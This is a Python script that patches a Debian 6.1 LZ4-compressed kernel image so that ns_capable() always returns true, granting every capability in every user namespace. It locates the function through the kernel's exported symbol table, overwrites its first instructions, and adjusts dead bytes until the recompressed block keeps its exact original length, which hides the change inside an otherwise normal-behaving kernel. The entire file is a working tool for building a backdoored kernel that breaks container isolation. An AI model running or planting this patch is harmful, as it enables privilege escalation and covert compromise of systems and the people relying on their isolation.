#!/usr/bin/env python3
"""Makes a kernel that does not isolate, out of one that does: break_kernel.py VMLINUZ BROKEN

BROKEN is VMLINUZ, a bzImage compressed with LZ4 as Debian's 6.1 is, where ns_capable() returns true at
once: whoever asks has every capability in every user namespace. Nothing is compiled. The function is
found by the kernel's own table of exported symbols; three of its instructions are replaced, which gives
a kernel as long as it was, that boots and behaves as before in all other respects.
"""

import struct
import subprocess
import sys

NAME = b"ns_capable"
# push %rbx; mov %esi,%edx; cmp $0x28,%esi  becomes  mov $1,%eax; ret
BEFORE = bytes.fromhex("53 89f2 83fe28")
AFTER = bytes.fromhex("b801000000 c3")
MAGIC = b"\x02\x21\x4c\x18"  # LZ4's legacy frame
BLOCK = 8 << 20  # of which each block but the last has as much
SPARE = 16  # bytes of the function that are never reached now, and have no entry in a table


def lz4(*words, data):
    return subprocess.run(["lz4", "-q", *words], input=data, stdout=subprocess.PIPE, check=True).stdout


def payload_of(image):
    """Where the compressed kernel is: Documentation/arch/x86/boot.rst, payload_offset."""
    if image[0x202:0x206] != b"HdrS":
        sys.exit("this is no bzImage")
    start = ((image[0x1F1] or 4) + 1) * 512 + struct.unpack_from("<I", image, 0x248)[0]
    length = struct.unpack_from("<I", image, 0x24C)[0]
    if image[start:start + 4] != MAGIC:
        sys.exit("this kernel is not compressed with LZ4")
    return start, start + length - 4  # and its uncompressed length, in four bytes


def address_of(elf, name):
    """Offset in the file of what is exported under this name (struct kernel_symbol, relative)."""
    table, = struct.unpack_from("<Q", elf, 0x28)
    count, names = struct.unpack_from("<HH", elf, 0x3C)

    def text_at(offset):
        return bytes(elf[offset:elf.index(b"\0", offset)])

    sections = {}
    rows = [struct.unpack_from("<IIQQQQ", elf, table + 64 * i) for i in range(count)]
    for label, _, _, address, offset, size in rows:
        sections[text_at(rows[names][4] + label)] = (address, offset, size)

    def offset_of(address):
        for begin, offset, size in sections.values():
            if begin and begin <= address < begin + size:
                return offset + address - begin
        sys.exit(f"nothing is at {address:#x}")

    for section in (b"__ksymtab", b"__ksymtab_gpl"):
        address, offset, size = sections[section]
        for entry in range(0, size, 12):
            value, label = struct.unpack_from("<ii", elf, offset + entry)
            if text_at(offset_of(address + entry + 4 + label)) == name:
                return offset_of(address + entry + value)
    sys.exit(f"{name.decode()} is not exported")


def main(source, target):
    with open(source, "rb") as image_file:
        image = bytearray(image_file.read())
    start, end = payload_of(image)
    elf = bytearray(lz4("-d", "-c", data=bytes(image[start:end])))
    function = address_of(elf, NAME)
    patch = elf.find(BEFORE, function, function + 16)
    if patch < 0:
        sys.exit(f"{NAME.decode()} does not begin as it does in Debian's 6.1")
    elf[patch:patch + len(AFTER)] = AFTER

    # The block that it is in, among those of the frame.
    begin = patch // BLOCK * BLOCK
    at = start + len(MAGIC)
    for _ in range(patch // BLOCK):
        at += 4 + struct.unpack_from("<I", image, at)[0]
    length, = struct.unpack_from("<I", image, at)
    # It must compress to the same length: dead bytes are made more alike, or less, until it does.
    spare = patch + len(AFTER)
    kept = bytes(elf[spare:spare + SPARE])
    for filler in range(SPARE + 1):
        for fill in (b"\xcc" * filler, bytes(range(0x51, 0x51 + filler))):
            elf[spare:spare + SPARE] = fill + kept[filler:]
            packed = lz4("-l", "-9", "-c", data=bytes(elf[begin:begin + BLOCK]))
            if len(packed) == len(MAGIC) + 4 + length:
                image[at:at + 4 + length] = packed[len(MAGIC):]
                with open(target, "wb") as image_file:
                    image_file.write(image)
                return
    sys.exit("it does not compress to the same length")


if __name__ == "__main__":
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    main(*sys.argv[1:])
